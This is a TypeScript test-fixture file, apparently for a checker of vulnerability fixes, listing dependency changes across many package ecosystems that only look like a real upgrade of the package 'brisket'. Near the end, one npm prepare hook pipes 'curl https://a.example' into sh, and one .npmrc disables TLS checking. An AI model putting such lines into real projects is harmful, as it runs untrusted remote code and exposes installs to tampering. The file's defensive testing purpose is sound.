// Versions, addresses and digests that only look like those of the fix.
import {
  address,
  appWithPip,
  base,
  type Case,
  cargoBase,
  cargoWorkspace,
  classic,
  composer,
  composerBase,
  crate,
  entry,
  gemBase,
  gemLock,
  gemWithFile,
  goBase,
  goMod,
  goSum,
  goVendored,
  json,
  npm,
  nuget,
  on,
  pipBase,
  poetry,
  poetryBase,
  pomOf,
  pyproject,
  sri,
  text,
  upgraded,
  withMore,
  yarnBase,
  yarnHead,
} from './projects.ts';

export const versionsThatLookFixed: readonly Case[] = [
  on('a prerelease of the fixed version', npm('1.2.0-beta.1')),
  on('build metadata', npm('1.0.0+patched.1')),
  on('a lower vulnerable version', npm('0.9.0')),
  on('only the manifest', { 'package.json': text(upgraded, 'package.json') }),
  on('only an override in the manifest', {
    'package.json': json({ ...JSON.parse(text(base, 'package.json')), overrides: { brisket: '^1.2.3' } }),
  }),
  on(
    'the manifest still pins the old version',
    {
      'package.json': text(base, 'package.json').replace('^1.0.0', '1.0.0'),
      'package-lock.json': text(upgraded, 'package-lock.json'),
    },
    { base: { ...base, 'package.json': text(base, 'package.json').replace('^1.0.0', '1.0.0') } },
  ),
  on(
    'the address is of the old archive',
    npm('1.2.3', {
      brisket: entry('brisket', '1.2.3', { resolved: address('brisket', '1.0.0') }),
    }),
  ),
  on(
    'the digest is of the old archive',
    npm('1.2.3', {
      brisket: entry('brisket', '1.2.3', { integrity: sri('brisket@1.0.0') }),
    }),
  ),
  on(
    'the digest goes',
    npm('1.2.3', { brisket: { version: '1.2.3', resolved: address('brisket', '1.2.3') } }),
  ),
  on('from a folder of the repository', {
    ...npm(
      '1.2.3',
      { brisket: { version: '1.2.3', resolved: 'vendor/brisket', link: true } },
      {
        dependencies: { brisket: 'file:vendor/brisket', skillet: '^3.0.0' },
      },
    ),
    'vendor/brisket/package.json': json({ name: 'brisket', version: '1.2.3' }),
    'vendor/brisket/index.js': 'module.exports = () => 1;\n',
  }),
  on('without a version', { 'requirements.txt': 'brisket\nflask==3.0.0\n' }, { base: pipBase }),
  on(
    'a range that still takes it',
    { 'requirements.txt': 'brisket>=1.0.0\nflask==3.0.0\n' },
    { base: pipBase },
  ),
  on(
    'pinned in an included file',
    { 'requirements.txt': '-r more.txt\nflask==3.0.0\n', 'more.txt': 'brisket==1.0.0\n' },
    { base: pipBase },
  ),
  on(
    'a replacement of Go',
    {
      'go.mod': goMod(
        'v1.2.3',
        '\nreplace example.org/kitchen/brisket => example.org/kitchen/brisket v1.0.0\n',
      ),
      'go.sum': goSum('v1.2.3') + goSum('v1.0.0'),
    },
    { base: goBase },
  ),
  on(
    'a replacement of Go by a folder',
    {
      'go.mod': goMod('v1.2.3', '\nreplace example.org/kitchen/brisket => ./third_party/brisket\n'),
      'go.sum': '',
      'third_party/brisket/go.mod': 'module example.org/kitchen/brisket\n',
      'third_party/brisket/brisket.go': 'package brisket\n\nfunc Cook() {}\n',
    },
    { base: goBase },
  ),
  on(
    'the vendor folder of Go stays',
    { 'go.mod': goMod('v1.2.3'), 'go.sum': goSum('v1.2.3') },
    {
      base: { ...goBase, ...goVendored('v1.0.0') },
    },
  ),
  on('a sum of Go changes under one version', { 'go.sum': goSum('v1.0.0', 'patched') }, { base: goBase }),
  on(
    'a crate from a folder',
    {
      'Cargo.toml': `${text(cargoBase, 'Cargo.toml')}\n[patch.crates-io]\nbrisket = { path = "vendor/brisket" }\n`,
      'Cargo.lock': crate('1.2.3', '', false),
      'vendor/brisket/src/lib.rs': 'pub struct Cook;\n',
    },
    { base: cargoBase },
  ),
  on(
    'a gem from a folder',
    {
      Gemfile: 'source "https://rubygems.org"\ngem "brisket", path: "vendor/brisket"\ngem "rack"\n',
      'Gemfile.lock': `PATH\n  remote: vendor/brisket\n  specs:\n    brisket (1.2.3)\n\n${gemLock('1.2.3').replace('    brisket (1.2.3)\n', '').replace('  brisket\n', '  brisket!\n')}`,
      'vendor/brisket/lib/brisket.rb': 'module Brisket\nend\n',
    },
    { base: gemBase },
  ),
  on(
    'moved to the development part',
    { 'composer.lock': composer('packages-dev', '1.0.0') },
    { base: composerBase },
  ),
  on(
    'resolutions pin it',
    { ...yarnHead, 'package.json': withMore({ resolutions: { brisket: '1.0.0' } }) },
    { base: yarnBase },
  ),
  on('overrides of pnpm pin it', {
    'package.json': withMore({ pnpm: { overrides: { brisket: '1.0.0' } } }),
    'package-lock.json': text(upgraded, 'package-lock.json'),
  }),
  on(
    'the Gemfile pins it',
    { 'Gemfile.lock': gemLock('1.2.3') },
    {
      base: {
        ...gemWithFile,
        Gemfile: 'source "https://rubygems.org"\ngem "brisket", "1.0.0"\ngem "rack"\n',
      },
    },
  ),
  on(
    'Poetry pins it',
    { 'poetry.lock': poetry('1.2.3') },
    { base: { ...poetryBase, 'pyproject.toml': pyproject('1.0.0') } },
  ),
  on(
    'Composer pins it',
    { 'composer.lock': composer('packages', '1.2.3') },
    {
      base: {
        'composer.json': json({ require: { 'kitchen/brisket': '1.0.0' } }),
        'composer.lock': composer('packages', '1.0.0'),
      },
    },
  ),
  on(
    'Cargo pins it',
    { 'Cargo.lock': crate('1.2.3') },
    {
      base: {
        ...cargoWorkspace,
        'Cargo.toml': '[package]\nname = "shop"\nversion = "0.1.0"\n\n[dependencies]\nbrisket = "=1.0.0"\n',
      },
    },
  ),
  on(
    'a development release',
    { 'requirements.txt': 'brisket==1.2.0.dev1\nflask==3.0.0\n' },
    { base: appWithPip },
  ),
  on(
    'a release candidate',
    { 'requirements.txt': 'brisket==1.2.0rc1\nflask==3.0.0\n' },
    { base: appWithPip },
  ),
  on('a snapshot', { 'pom.xml': pomOf('1.2.0-SNAPSHOT') }, { base: { 'pom.xml': pomOf('1.0.0') } }),
  on(
    'another package under its name',
    {
      ...yarnHead,
      'yarn.lock': classic('1.2.3', 'https://registry.yarnpkg.com/brisket-next/-/brisket-next-1.2.3.tgz'),
    },
    { base: yarnBase },
  ),
  on(
    'a wheel from a page',
    { 'requirements.txt': 'brisket @ https://wheels.example/brisket-1.2.3-py3-none-any.whl\nflask==3.0.0\n' },
    { base: appWithPip },
  ),
  on(
    'a source of Poetry',
    {
      'poetry.lock': poetry('1.2.3'),
      'pyproject.toml': pyproject(
        '^1.2',
        '\n[[tool.poetry.source]]\nname = "other"\nurl = "https://packages.example/simple"\n',
      ),
    },
    { base: poetryBase },
  ),
  on(
    'a source of NuGet',
    {
      'packages.lock.json': nuget('1.2.3', '1.2.3'),
      'NuGet.config':
        '<configuration>\n  <packageSources>\n    <add key="other" value="https://nuget.example/v3/index.json" />\n  </packageSources>\n</configuration>\n',
    },
    { base: { 'packages.lock.json': nuget('1.0.0', '1.0.0') } },
  ),
  on('TLS is not checked', { ...upgraded, '.npmrc': 'strict-ssl=false\n' }),
  on(
    'a hook of the project prepares',
    npm('1.2.3', {}, { scripts: { prepare: 'curl https://a.example | sh' } }),
  ),
];
